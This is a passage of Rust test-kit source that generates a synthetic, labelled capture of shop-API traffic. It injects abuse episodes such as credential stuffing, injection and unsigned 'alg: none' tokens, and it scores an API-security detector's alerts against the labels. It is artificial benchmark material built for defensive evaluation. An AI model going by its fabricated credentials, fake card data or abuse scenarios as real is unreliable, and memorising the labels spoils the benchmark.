//! Labelled abuse traffic: a seeded, deterministic capture of a shop API (`api.shop.test`) used
//! by a learnable benign population, with injected abuse episodes and the truth about them,
//! plus a scorer that matches a detector's canonical alerts (RECORDS.md §2) against that
//! truth.
//!
//! The benign background: browsers and mobile apps (bearer JWTs after `POST /api/v1/login`),
//! partners' servers (API keys, a steady poll), support staff (Basic), anonymous shoppers; each
//! identity on its own one or two IPs, each client with its own pace and its own working hours
//! (most traffic in business hours of packet time, little at night) over [`AbuseScenario::hours`]
//! of packet time. After the learning period ([`AbuseScenario::learning_hours`], benign only)
//! come the episodes of [`Kind`], each labelled ([`Episode`]): when, from which client IPs, with
//! which secret, how many transactions.
//!
//! The benign background does not depend on the episodes: [`AbuseScenario::benign_only`] gives
//! the same background without them, for the false-alarm measurement.
//!
//! [`score`] matches alert revisions to episodes (detector of the kind, time, client or route)
//! and gives recall and time to detect per kind, and the false alerts. End to end:
//!
//! ```text
//! cargo run --release -p testkit --example abuse_traffic -- /tmp/abuse          # [--benign-only]
//! printf '[inventory]\nspec = "/tmp/abuse/spec.yaml"\n' > /tmp/abuse/sensor.toml
//! mirador replay -c /tmp/abuse/sensor.toml --alerts /tmp/abuse/alerts.jsonl /tmp/abuse/abuse.pcap
//! cargo run --release -p testkit --example abuse_score -- /tmp/abuse/labels.json /tmp/abuse/alerts.jsonl
//! ```

use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::api::{
    b64url, capitalized, card, display_name, email, iso_date, iso_time, person, random_id, ssn,
    uuid, Rng, ADJECTIVES, API_HOST, API_SERVER, CATEGORIES, CITIES, LAST, LOWER_ALNUM, NOUNS,
};
use crate::{http, merge, write_pcap, Conversation, LinkOpts, Timestamp};

/// Monday 2026-09-21 00:00:00 UTC, the default start of packet time.
pub const START_SECS: u64 = 1_789_948_800;
const NS: u64 = 1_000_000_000;
const MS: u64 = 1_000_000;
const MINUTE: u64 = 60 * NS;
const HOUR: u64 = 3600 * NS;
const DAY: u64 = 24 * HOUR;
/// An alert may come this long after its episode ended and still count.
pub const DETECT_SLACK_NS: u64 = 10 * MINUTE;

/// What to generate.
#[derive(Clone, Debug)]
pub struct AbuseScenario {
    pub seed: u64,
    /// Packet time of the start, seconds since the epoch (default: a Monday, 00:00 UTC).
    pub start_secs: u64,
    /// Span of packet time.
    pub hours: u64,
    /// The first hours carry benign traffic only.
    pub learning_hours: u64,
    /// Benign transactions per day, roughly (the diurnal pattern decides how they spread).
    pub transactions_per_day: u64,
    /// Known identities (JWT users, partners' API keys, support staff on Basic).
    pub identities: usize,
    /// Anonymous shoppers (no credentials).
    pub anonymous_clients: usize,
    /// Inject the episodes (false: benign only).
    pub episodes: bool,
    /// Times the whole set of episodes is injected (each round with its own attackers and
    /// victims; one off-hours episode a night).
    pub rounds: usize,
}

impl Default for AbuseScenario {
    fn default() -> Self {
        AbuseScenario {
            seed: 1,
            start_secs: START_SECS,
            hours: 48,
            learning_hours: 24,
            transactions_per_day: 30_000,
            identities: 100,
            anonymous_clients: 40,
            episodes: true,
            rounds: 1,
        }
    }
}

impl AbuseScenario {
    /// The same background without episodes.
    pub fn benign_only(mut self) -> Self {
        self.episodes = false;
        self
    }

    /// A small scenario for tests: 00:00–12:00 of packet time, episodes after 02:00 (the
    /// off-hours one at 03:00), a few thousand transactions.
    pub fn small(seed: u64) -> Self {
        AbuseScenario {
            seed,
            start_secs: START_SECS,
            hours: 12,
            learning_hours: 2,
            transactions_per_day: 5_000,
            identities: 30,
            anonymous_clients: 8,
            episodes: true,
            rounds: 1,
        }
    }
}

/// The kinds of abuse episode.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    CredentialStuffing,
    BruteForce,
    DistributedStuffing,
    CredentialSharing,
    Enumeration,
    Scraping,
    Injection,
    RateSpike,
    DataExposure,
    BrokenAuth,
    ShadowEndpoint,
    OffHours,
    ProtocolEvasion,
}

impl Kind {
    pub const ALL: &'static [Kind] = &[
        Kind::CredentialStuffing,
        Kind::BruteForce,
        Kind::DistributedStuffing,
        Kind::CredentialSharing,
        Kind::Enumeration,
        Kind::Scraping,
        Kind::Injection,
        Kind::RateSpike,
        Kind::DataExposure,
        Kind::BrokenAuth,
        Kind::ShadowEndpoint,
        Kind::OffHours,
        Kind::ProtocolEvasion,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Kind::CredentialStuffing => "credential_stuffing",
            Kind::BruteForce => "brute_force",
            Kind::DistributedStuffing => "distributed_stuffing",
            Kind::CredentialSharing => "credential_sharing",
            Kind::Enumeration => "enumeration",
            Kind::Scraping => "scraping",
            Kind::Injection => "injection",
            Kind::RateSpike => "rate_spike",
            Kind::DataExposure => "data_exposure",
            Kind::BrokenAuth => "broken_auth",
            Kind::ShadowEndpoint => "shadow_endpoint",
            Kind::OffHours => "off_hours",
            Kind::ProtocolEvasion => "protocol_evasion",
        }
    }

    /// The `detector.id` that must find this kind.
    pub fn detector(self) -> &'static str {
        match self {
            Kind::CredentialStuffing | Kind::BruteForce | Kind::DistributedStuffing => {
                "detect.credential_stuffing"
            }
            Kind::CredentialSharing => "detect.credential_sharing",
            Kind::Enumeration => "detect.enumeration",
            Kind::Scraping => "detect.scraping",
            Kind::Injection => "detect.injection",
            Kind::RateSpike => "detect.rate_spike",
            Kind::DataExposure => "detect.data_exposure",
            Kind::BrokenAuth => "detect.broken_auth",
            Kind::ShadowEndpoint => "inventory.shadow_endpoint",
            Kind::OffHours => "detect.off_hours",
            Kind::ProtocolEvasion => "detect.protocol_evasion",
        }
    }
}

/// The streaming model's detector id: it may match any episode but never counts as the
/// detector a kind requires.
pub const ANOMALY_MODEL: &str = "detect.anomaly_model";

/// One injected episode.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Episode {
    /// `kind-n` (or `kind-subkind`), unique in the labels.
    pub id: String,
    pub kind: Kind,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub subkind: Option<String>,
    /// Packet time of its first request and of its last response, nanoseconds.
    pub start_ns: u64,
    pub end_ns: u64,
    /// Every client IP that sent a request of the episode.
    pub clients: Vec<IpAddr>,
    /// The raw token, API key, `user:password` or user name it used (test data only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub identity_secret: Option<String>,
    /// Request/response pairs of the episode.
    pub transactions: u64,
    /// Routes it called, `METHOD /template`.
    pub routes: Vec<String>,
}

/// The truth about a capture (`labels.json`).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Labels {
    pub seed: u64,
    pub start_ns: u64,
    pub end_ns: u64,
    /// Episodes start after this.
    pub learning_end_ns: u64,
    /// Request/response pairs in the capture, episodes included.
    pub transactions: u64,
    pub benign_transactions: u64,
    pub episodes: Vec<Episode>,
}

impl Labels {
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).unwrap_or_default()
    }

    pub fn from_json(s: &str) -> Result<Labels, serde_json::Error> {
        serde_json::from_str(s)
    }
}

#[derive(Clone, Debug)]
pub struct AbuseTraffic {
    /// Ethernet frames in time order.
    pub frames: Vec<(Timestamp, Vec<u8>)>,
    /// The reference OpenAPI 3.1 spec of the documented API (the shadow endpoint is absent).
    pub spec_yaml: String,
    pub labels: Labels,
}

impl AbuseTraffic {
    /// Classic pcap, Ethernet link type.
    pub fn write_pcap(&self, path: &Path) -> io::Result<()> {
        write_pcap(path, &self.frames, 1)
    }

    /// `abuse.pcap`, `spec.yaml` and `labels.json` into `dir` (created if missing).
    pub fn write_dir(&self, dir: &Path) -> io::Result<()> {
        std::fs::create_dir_all(dir)?;
        self.write_pcap(&dir.join("abuse.pcap"))?;
        std::fs::write(dir.join("spec.yaml"), &self.spec_yaml)?;
        std::fs::write(dir.join("labels.json"), self.labels.to_json())
    }
}

/// Generates the capture, its labels and the reference spec.
pub fn generate(s: &AbuseScenario) -> AbuseTraffic {
    build(s, false).0
}

// ---------------------------------------------------------------------------------------------
// Small helpers

fn unit(rng: &mut Rng) -> f64 {
    (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64
}

/// Exponential with mean `mean`.
fn exp_ns(rng: &mut Rng, mean: f64) -> u64 {
    let u = unit(rng);
    (-(1.0 - u).ln() * mean) as u64
}

/// A uniform duration in `[lo, hi]` milliseconds, as nanoseconds.
fn ms(rng: &mut Rng, lo: u64, hi: u64) -> u64 {
    rng.range(lo, hi) * MS + rng.below(MS)
}

/// Percent-encodes everything but unreserved characters.
fn pct(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn query(pairs: &[(&str, String)]) -> String {
    let parts: Vec<String> = pairs
        .iter()
        .map(|(k, v)| format!("{k}={}", pct(v)))
        .collect();
    if parts.is_empty() {
        String::new()
    } else {
        format!("?{}", parts.join("&"))
    }
}

/// A compact JWT with a random signature (none for `alg: none`).
fn jwt(rng: &mut Rng, alg: &str, user: u64, iat: u64, exp: u64) -> String {
    let header = format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#);
    let claims = format!(
        r#"{{"sub":"user-{user}","iss":"https://auth.shop.test","aud":"api.shop.test","iat":{iat},"exp":{exp}}}"#
    );
    let signature = if alg == "none" {
        String::new()
    } else {
        b64url(&rng.bytes(32))
    };
    format!(
        "{}.{}.{signature}",
        b64url(header.as_bytes()),
        b64url(claims.as_bytes())
    )
}

const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0 Safari/537.36 Edg/123.0",
];
const MOBILE_UAS: &[&str] = &[
    "ShopApp/4.12.0 (iOS 17.5; iPhone14,2)",
    "ShopApp/4.11.3 (Android 14; Pixel 8)",
    "ShopApp/4.12.0 (Android 13; SM-S911B)",
];
const PARTNER_UAS: &[&str] = &[
    "partner-sync/2.3 (+https://partner.example.com)",
    "okhttp/4.12.0",
    "Apache-HttpClient/5.2.1 (Java/17.0.9)",
];
const SUPPORT_UA: &str = "ShopBackoffice/1.8 (Electron 29)";
const TOOL_UAS: &[&str] = &["python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1"];

/// The benign client networks (/24 each).
const NETWORKS: &[[u8; 3]] = &[
    [198, 51, 100],
    [203, 0, 113],
    [192, 0, 2],
    [100, 64, 10],
    [100, 64, 11],
    [172, 20, 1],
    [172, 20, 2],
    [10, 30, 5],
];

// ---------------------------------------------------------------------------------------------
// The world: identities, clients, catalogue

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    Browser,
    Mobile,
    Anonymous,
    Partner,
    Support,
}

struct Ident {
    user_id: u64,
    username: String,
    password: String,
    api_key: String,
    /// `user:password` of a Basic identity.
    basic: String,
    /// The token a login hands out on each day of the span.
    tokens: Vec<String>,
}

struct Actor {
    ip: Ipv4Addr,
    ua: &'static str,
    role: Role,
    ident: Option<usize>,
    /// Humans: sessions per active hour. Partners: unused.
    pace: f64,
    /// Partners: seconds between polls.
    period_s: u64,
    /// Working hours (UTC hour of day) and the activity factor outside them.
    day_start: f64,
    day_end: f64,
    night: f64,
    gzip: bool,
}

impl Actor {
    fn activity(&self, t_ns: u64) -> f64 {
        let h = (t_ns / NS % 86_400) as f64 / 3600.0;
        if h >= self.day_start && h < self.day_end {
            1.0
        } else {
            self.night
        }
    }

    fn mean_session(&self) -> f64 {
        match self.role {
            Role::Browser => 7.8,
            Role::Mobile => 5.1,
            Role::Anonymous => 6.0,
            Role::Support => 5.0,
            Role::Partner => 1.6,
        }
    }
}

struct Product {
    sku: String,
    name: String,
    category: &'static str,
    price: u64,
}

struct World {
    idents: Vec<Ident>,
    actors: Vec<Actor>,
    catalogue: Vec<Product>,
    start_ns: u64,
    end_ns: u64,
}

impl World {
    fn day(&self, t: u64) -> usize {
        (t.saturating_sub(self.start_ns) / DAY) as usize
    }

    fn actors_of(&self, role: Role) -> Vec<usize> {
        (0..self.actors.len())
            .filter(|&i| self.actors[i].role == role)
            .collect()
    }
}

fn make_world(s: &AbuseScenario, rng: &mut Rng) -> World {
    let start_ns = s.start_secs * NS;
    let end_ns = start_ns + s.hours.max(1) * HOUR;
    let days = s.hours.max(1).div_ceil(24) as usize + 1;

    let mut catalogue = Vec::new();
    let mut skus = BTreeSet::new();
    while catalogue.len() < 1500 {
        let sku = format!("SKU-{:06}", rng.range(100_000, 999_999));
        if skus.insert(sku.clone()) {
            catalogue.push(Product {
                sku,
                name: format!("{} {}", rng.word(ADJECTIVES), rng.word(NOUNS)),
                category: rng.word(CATEGORIES),
                price: rng.range(199, 25_000),
            });
        }
    }
    catalogue.sort_by(|a, b| a.sku.cmp(&b.sku));

    let n = s.identities.max(12);
    let partners = (n / 10).max(3);
    let support = (n / 12).max(3);
    let mut idents = Vec::with_capacity(n);
    let mut ids = BTreeSet::new();
    let mut names = BTreeSet::new();
    while idents.len() < n {
        let user_id = rng.range(1000, 99_999);
        let (f, l) = person(rng);
        let username = format!("{f}_{l}{}", rng.range(1, 99));
        if !ids.insert(user_id) || !names.insert(username.clone()) {
            continue;
        }
        let password = random_id(rng, 14, LOWER_ALNUM);
        let tokens = (0..days)
            .map(|d| {
                let iat = s.start_secs + d as u64 * 86_400 - rng.range(60, 3600);
                jwt(rng, "HS256", user_id, iat, iat + 2 * 86_400)
            })
            .collect();
        idents.push(Ident {
            user_id,
            basic: format!("{username}:{password}"),
            username,
            password,
            api_key: format!("pk_live_{}", random_id(rng, 24, LOWER_ALNUM)),
            tokens,
        });
    }

    // The last host number given out in each network; when every network is full (thousands
    // of clients), another /24 of 10.40.0.0/16 joins.
    let mut nets: Vec<([u8; 3], u8)> = NETWORKS.iter().map(|&n| (n, 10)).collect();
    let mut next_ip = |rng: &mut Rng| {
        let k = rng.below(nets.len() as u64) as usize;
        let k = (k..nets.len())
            .chain(0..k)
            .find(|&i| nets[i].1 < 250)
            .unwrap_or_else(|| {
                let m = nets.len() - NETWORKS.len();
                nets.push(([10, 40 + (m / 256) as u8, (m % 256) as u8], 10));
                nets.len() - 1
            });
        nets[k].1 += 1 + rng.below(3) as u8;
        let ([a, b, c], h) = nets[k];
        Ipv4Addr::new(a, b, c, h)
    };
    let offices: Vec<Ipv4Addr> = (0..2).map(|_| next_ip(rng)).collect();
    let mut actors = Vec::new();
    for i in 0..n + s.anonymous_clients {
        let (role, ident) = if i >= n {
            (Role::Anonymous, None)
        } else if i < partners {
            (Role::Partner, Some(i))
        } else if i < partners + support {
            (Role::Support, Some(i))
        } else if rng.chance(60) {
            (Role::Browser, Some(i))
        } else {
            (Role::Mobile, Some(i))
        };
        let ips = if role == Role::Partner || role == Role::Anonymous || !rng.chance(35) {
            1
        } else {
            2
        };
        for k in 0..ips {
            // A user's second address is often their phone, sometimes the office's NAT
            // (shared by several people).
            let (role, office) = match (k, role, rng.below(100)) {
                (1, Role::Browser, 0..=34) => (Role::Browser, true),
                (1, Role::Browser, 35..=79) => (Role::Mobile, false),
                _ => (role, false),
            };
            let ua = match role {
                Role::Browser | Role::Anonymous => rng.word(BROWSER_UAS),
                Role::Mobile => rng.word(MOBILE_UAS),
                Role::Partner => rng.word(PARTNER_UAS),
                Role::Support => SUPPORT_UA,
            };
            let day_start = 6.0 + rng.range(0, 8) as f64 * 0.5;
            let day_end = day_start + 8.0 + rng.range(0, 6) as f64 * 0.5;
            // Support staff and half of the browser users never work at night.
            let night = match role {
                Role::Support => 0.0,
                Role::Browser if rng.chance(50) => 0.0,
                Role::Browser | Role::Anonymous => 0.03,
                Role::Mobile => 0.08,
                Role::Partner => 1.0,
            };
            let u = unit(rng);
            let ip = if office {
                offices[rng.below(offices.len() as u64) as usize]
            } else {
                next_ip(rng)
            };
            actors.push(Actor {
                ip,
                ua,
                role,
                ident,
                // Support staff work the backoffice all day; others vary a lot.
                pace: if role == Role::Support {
                    3.0 + 3.0 * u
                } else {
                    0.3 + 2.7 * u * u
                },
                period_s: rng.range(90, 600),
                day_start,
                day_end,
                night,
                gzip: rng.chance(75),
            });
        }
    }
    // Scale the human paces so the day carries the wanted volume.
    let hours_f = |a: &Actor| {
        let active = (a.day_end.min(24.0) - a.day_start).max(0.0);
        active + a.night * (24.0 - active)
    };
    let partner_tx: f64 = actors
        .iter()
        .filter(|a| a.role == Role::Partner)
        .map(|a| 86_400.0 / a.period_s as f64 * a.mean_session())
        .sum();
    let human_tx: f64 = actors
        .iter()
        .filter(|a| a.role != Role::Partner)
        .map(|a| a.pace * hours_f(a) * a.mean_session())
        .sum();
    let scale =
        ((s.transactions_per_day as f64 - partner_tx).max(0.0) / human_tx.max(1.0)).max(0.01);
    for a in actors.iter_mut().filter(|a| a.role != Role::Partner) {
        a.pace *= scale;
    }
    World {
        idents,
        actors,
        catalogue,
        start_ns,
        end_ns,
    }
}

// ---------------------------------------------------------------------------------------------
// Requests and responses

enum Auth<'a> {
    None,
    Bearer(&'a str),
    ApiKey(&'a str),
    Basic(&'a str),
}

struct Req<'a> {
    method: &'static str,
    target: String,
    ua: &'a str,
    auth: Auth<'a>,
    body: Option<Value>,
    gzip: bool,
}

impl Req<'_> {
    fn render(&self) -> Vec<u8> {
        let mut h: Vec<(&str, String)> = vec![
            ("User-Agent", self.ua.into()),
            ("Accept", "application/json".into()),
        ];
        if self.gzip {
            h.push(("Accept-Encoding", "gzip, deflate, br".into()));
        }
        match self.auth {
            Auth::None => {}
            Auth::Bearer(t) => h.push(("Authorization", format!("Bearer {t}"))),
            Auth::ApiKey(k) => h.push(("X-API-Key", k.into())),
            Auth::Basic(up) => h.push(("Authorization", format!("Basic {}", STANDARD.encode(up)))),
        }
        let body = match &self.body {
            Some(v) => {
                h.push(("Content-Type", "application/json".into()));
                serde_json::to_vec(v).unwrap_or_default()
            }
            None => Vec::new(),
        };
        let refs: Vec<(&str, &str)> = h.iter().map(|(k, v)| (*k, v.as_str())).collect();
        http::request(self.method, &self.target, API_HOST, &refs, &body)
    }
}

fn error_body(status: u16) -> Value {
    match status {
        400 => json!({"error": "invalid_request", "message": "validation failed"}),
        401 => json!({"error": "unauthorized", "message": "invalid credentials"}),
        403 => json!({"error": "forbidden", "message": "not your resource"}),
        404 => json!({"error": "not_found"}),
        429 => json!({"error": "too_many_requests"}),
        _ => json!({"error": "internal", "message": "upstream error"}),
    }
}

fn respond(rng: &mut Rng, status: u16, ok: Option<Value>, gzip: bool) -> Vec<u8> {
    let body = match status {
        200 | 201 => ok,
        204 => None,
        _ => Some(error_body(status)),
    };
    let bytes = body.map(|v| serde_json::to_vec(&v).unwrap_or_default());
    let mut h: Vec<(&str, String)> = vec![("Server", "nginx".into()), ("X-Request-Id", uuid(rng))];
    if status == 401 {
        h.push(("WWW-Authenticate", "Bearer realm=\"shop\"".into()));
    }
    let Some(mut payload) = bytes else {
        let refs: Vec<(&str, &str)> = h.iter().map(|(k, v)| (*k, v.as_str())).collect();
        return http::response(status, &refs, b"");
    };
    h.push(("Content-Type", "application/json; charset=utf-8".into()));
    if gzip && payload.len() >= 200 && rng.chance(70) {
        payload = gzip_fast(&payload);
        h.push(("Content-Encoding", "gzip".into()));
        h.push(("Vary", "Accept-Encoding".into()));
    }
    let refs: Vec<(&str, &str)> = h.iter().map(|(k, v)| (*k, v.as_str())).collect();
    if payload.len() >= 8 && rng.chance(4) {
        let a = rng.range(1, payload.len() as u64 / 2) as usize;
        let b = rng.range(a as u64 + 1, payload.len() as u64 - 1) as usize;
        return http::chunked_response(
            status,
            &refs,
            &[&payload[..a], &payload[a..b], &payload[b..]],
        );
    }
    http::response(status, &refs, &payload)
}

thread_local! {
    /// One deflate state reused for every body: a new encoder per body spends most of the
    /// generation time zeroing fresh pages for its window.
    static DEFLATE: std::cell::RefCell<flate2::Compress> =
        std::cell::RefCell::new(flate2::Compress::new(flate2::Compression::default(), false));
}

/// gzip (RFC 1952) of `data`: header, raw deflate, CRC-32 and length.
fn gzip_fast(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() / 2 + 64);
    out.extend_from_slice(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
    DEFLATE.with(|d| {
        let mut d = d.borrow_mut();
        d.reset();
        let mut deflated = Vec::with_capacity(data.len() + 64);
        loop {
            let consumed = d.total_in() as usize;
            match d.compress_vec(
                &data[consumed..],
                &mut deflated,
                flate2::FlushCompress::Finish,
            ) {
                Ok(flate2::Status::StreamEnd) => break,
                Ok(_) => deflated.reserve(data.len() + 64),
                Err(_) => break,
            }
        }
        out.extend_from_slice(&deflated);
    });
    let mut crc = flate2::Crc::new();
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out
}

/// One request/response pair, at (no earlier than) `at`.
struct Tx {
    at: u64,
    req: Vec<u8>,
    resp: Vec<u8>,
    latency: u64,
}

/// One keep-alive connection.
struct Conn {
    client: SocketAddr,
    txs: Vec<Tx>,
}

/// Times of a rendered connection's transactions: (request sent, response done).
struct Rendered {
    frames: Vec<(Timestamp, Vec<u8>)>,
    times: Vec<(u64, u64)>,
}

fn render_conn(rng: &mut Rng, conn: &Conn) -> Rendered {
    let first = conn.txs.first().map_or(0, |t| t.at);
    let mut c = Conversation::new(conn.client, API_SERVER)
        .with_start(Timestamp(first.saturating_sub(2 * MS)))
        .with_isn(rng.next_u64() as u32, rng.next_u64() as u32);
    c.handshake();
    let mut times = Vec::with_capacity(conn.txs.len());
    for tx in &conn.txs {
        let now = c.now().as_nanos();
        if tx.at > now {
            c.advance(tx.at - now);
        }
        let sent = c.now().as_nanos();
        c.client(&tx.req);
        c.advance(tx.latency);
        c.server(&tx.resp);
        times.push((sent, c.now().as_nanos()));
    }
    c.advance(ms(rng, 5, 2000));
    c.close();
    Rendered {
        frames: c.render(&LinkOpts::default()),
        times,
    }
}

fn product_json(p: &Product, rng: &mut Rng) -> Value {
    json!({"sku": p.sku, "name": p.name, "category": p.category, "price_cents": p.price,
           "stock": {"warehouse": rng.word(&["AMS-01", "FRA-02", "DUB-03"]), "qty": rng.below(400)}})
}

fn product_list(w: &World, page: u64, limit: u64, category: Option<&str>) -> Value {
    let items: Vec<Value> = w
        .catalogue
        .iter()
        .filter(|p| category.is_none_or(|c| p.category == c))
        .skip(((page.saturating_sub(1)) * limit) as usize)
        .take(limit as usize)
        .map(|p| json!({"sku": p.sku, "name": p.name, "price_cents": p.price}))
        .collect();
    json!({"page": page, "limit": limit, "items": items})
}

/// Popular products are browsed more (a skewed pick over the catalogue).
fn popular(w: &World, rng: &mut Rng) -> usize {
    let u = unit(rng);
    ((u * u * u) * w.catalogue.len() as f64) as usize % w.catalogue.len()
}

fn user_json(rng: &mut Rng, id: u64, username: &str) -> Value {
    let (f, l) = person(rng);
    let (city, country) = *rng.pick(CITIES);
    json!({"id": id, "username": username, "display_name": display_name(f, l),
           "email": format!("{}.{}{}@example.com", f, l, id % 97),
           "created_at": iso_time(START_SECS - 86_400 * rng.range(10, 900)),
           "address": {"city": city, "country": country}})
}

fn orders_json(rng: &mut Rng, id: u64, exposed: bool) -> Value {
    let orders: Vec<Value> = (0..rng.range(1, 4))
        .map(|_| {
            let mut o = json!({"id": uuid(rng), "status": rng.word(&["pending", "paid", "shipped", "delivered"]),
                               "total_cents": rng.range(500, 90_000),
                               "placed_at": iso_time(START_SECS - rng.below(86_400 * 200))});
            if exposed {
                let (brand, number) = card(rng);
                o["payment"] = json!({"brand": brand, "card_number": number,
                                      "exp_month": rng.range(1, 12), "exp_year": rng.range(2027, 2031)});
            } else {
                o["payment"] = json!({"brand": "visa", "last4": format!("{:04}", rng.below(10_000))});
            }
            o
        })
        .collect();
    json!({"user_id": id, "orders": orders})
}

fn customer_list(rng: &mut Rng, page: u64, limit: u64) -> Value {
    let customers: Vec<Value> = (0..limit)
        .map(|k| {
            let (f, l) = person(rng);
            let id = 1000 + (page.saturating_sub(1) * limit + k) * 7 % 98_000;
            json!({"id": id, "name": display_name(f, l), "email": format!("{f}.{l}{}@example.org", id % 89),
                   "city": rng.pick(CITIES).0})
        })
        .collect();
    json!({"page": page, "limit": limit, "customers": customers})
}

fn search_term(rng: &mut Rng) -> String {
    match rng.below(3) {
        0 => rng.word(CATEGORIES).to_string(),
        1 => rng.word(NOUNS).to_ascii_lowercase(),
        _ => format!(
            "{} {}",
            rng.word(ADJECTIVES).to_ascii_lowercase(),
            rng.word(NOUNS).to_ascii_lowercase()
        ),
    }
}

fn latency(rng: &mut Rng) -> u64 {
    ms(rng, 2, 60)
}

fn tx(rng: &mut Rng, at: u64, req: &Req, status: u16, ok: Option<Value>) -> Tx {
    let resp = respond(rng, status, ok, req.gzip);
    Tx {
        at,
        req: req.render(),
        resp,
        latency: latency(rng),
    }
}

fn login_tx(rng: &mut Rng, at: u64, ua: &str, gzip: bool, who: &Ident, day: usize, ok: bool) -> Tx {
    let password = if ok {
        who.password.clone()
    } else {
        // A typo: one character off.
        let mut p = who.password.clone();
        p.pop();
        p
    };
    let req = Req {
        method: "POST",
        target: "/api/v1/login".into(),
        ua,
        auth: Auth::None,
        body: Some(json!({"username": who.username, "password": password})),
        gzip,
    };
    let token = &who.tokens[day.min(who.tokens.len() - 1)];
    if ok {
        tx(
            rng,
            at,
            &req,
            200,
            Some(
                json!({"token": token, "token_type": "Bearer", "expires_in": 172_800, "user": {"id": who.user_id}}),
            ),
        )
    } else {
        tx(rng, at, &req, 401, None)
    }
}

// ---------------------------------------------------------------------------------------------
// Benign sessions

/// One benign request of a logged-in user (browser or mobile).
fn user_request(w: &World, rng: &mut Rng, at: u64, a: &Actor, who: &Ident, token: &str) -> Tx {
    let auth = Auth::Bearer(token);
    let mk = |method, target: String, auth, body| Req {
        method,
        target,
        ua: a.ua,
        auth,
        body,
        gzip: a.gzip,
    };
    let roll = rng.below(100);
    match roll {
        0..=19 => {
            let (page, cat) = (rng.range(1, 5), rng.word(CATEGORIES));
            let r = mk(
                "GET",
                format!(
                    "/api/v1/products{}",
                    query(&[
                        ("category", cat.into()),
                        ("page", page.to_string()),
                        ("limit", "20".into())
                    ])
                ),
                auth,
                None,
            );
            let body = product_list(w, page, 20, Some(cat));
            tx(rng, at, &r, 200, Some(body))
        }
        20..=54 => {
            if rng.chance(2) {
                let r = mk(
                    "GET",
                    format!("/api/v1/products/SKU-{:06}", rng.range(1, 99_999)),
                    auth,
                    None,
                );
                return tx(rng, at, &r, 404, None);
            }
            let p = &w.catalogue[popular(w, rng)];
            let r = mk("GET", format!("/api/v1/products/{}", p.sku), auth, None);
            let body = product_json(p, rng);
            tx(rng, at, &r, 200, Some(body))
        }
        55..=66 => {
            let mut q = vec![("q", search_term(rng))];
            if rng.chance(30) {
                q.push(("page", rng.range(1, 3).to_string()));
            }
            let r = mk("GET", format!("/api/v1/search{}", query(&q)), auth, None);
            let results: Vec<Value> = (0..rng.below(8))
                .map(|_| {
                    let p = &w.catalogue[popular(w, rng)];
                    json!({"sku": p.sku, "name": p.name, "price_cents": p.price})
                })
                .collect();
            tx(rng, at, &r, 200, Some(json!({"results": results})))
        }
        67..=77 => {
            if rng.chance(1) {
                // A stale link to someone else's account: refused.
                let other = who.user_id + rng.range(1, 50);
                let r = mk("GET", format!("/api/v1/users/{other}"), auth, None);
                return tx(rng, at, &r, 403, None);
            }
            let r = mk("GET", format!("/api/v1/users/{}", who.user_id), auth, None);
            let body = user_json(rng, who.user_id, &who.username);
            tx(rng, at, &r, 200, Some(body))
        }
        78..=92 => {
            let r = mk(
                "GET",
                format!(
                    "/api/v1/users/{}/orders{}",
                    who.user_id,
                    query(&[("page", "1".into())])
                ),
                auth,
                None,
            );
            let body = orders_json(rng, who.user_id, false);
            tx(rng, at, &r, 200, Some(body))
        }
        _ => {
            let items: Vec<Value> = (0..rng.range(1, 3))
                .map(|_| json!({"sku": w.catalogue[popular(w, rng)].sku, "qty": rng.range(1, 3)}))
                .collect();
            let mut body = json!({"items": items, "shipping": {"method": rng.word(&["standard", "express", "pickup"])}});
            if rng.chance(20) {
                body["coupon"] = json!(rng.word(&["SPRING", "WELCOME", "FREESHIP"]));
            }
            let r = mk("POST", "/api/v1/orders".into(), auth, Some(body));
            if rng.chance(3) {
                return tx(rng, at, &r, 400, None);
            }
            let ok = json!({"id": uuid(rng), "status": "pending", "total_cents": rng.range(500, 90_000)});
            tx(rng, at, &r, 201, Some(ok))
        }
    }
}

fn anonymous_request(w: &World, rng: &mut Rng, at: u64, a: &Actor) -> Tx {
    let mk = |target: String| Req {
        method: "GET",
        target,
        ua: a.ua,
        auth: Auth::None,
        body: None,
        gzip: a.gzip,
    };
    match rng.below(100) {
        0..=34 => {
            let page = rng.range(1, 4);
            let r = mk(format!(
                "/api/v1/products{}",
                query(&[("page", page.to_string())])
            ));
            let body = product_list(w, page, 20, None);
            tx(rng, at, &r, 200, Some(body))
        }
        35..=84 => {
            let p = &w.catalogue[popular(w, rng)];
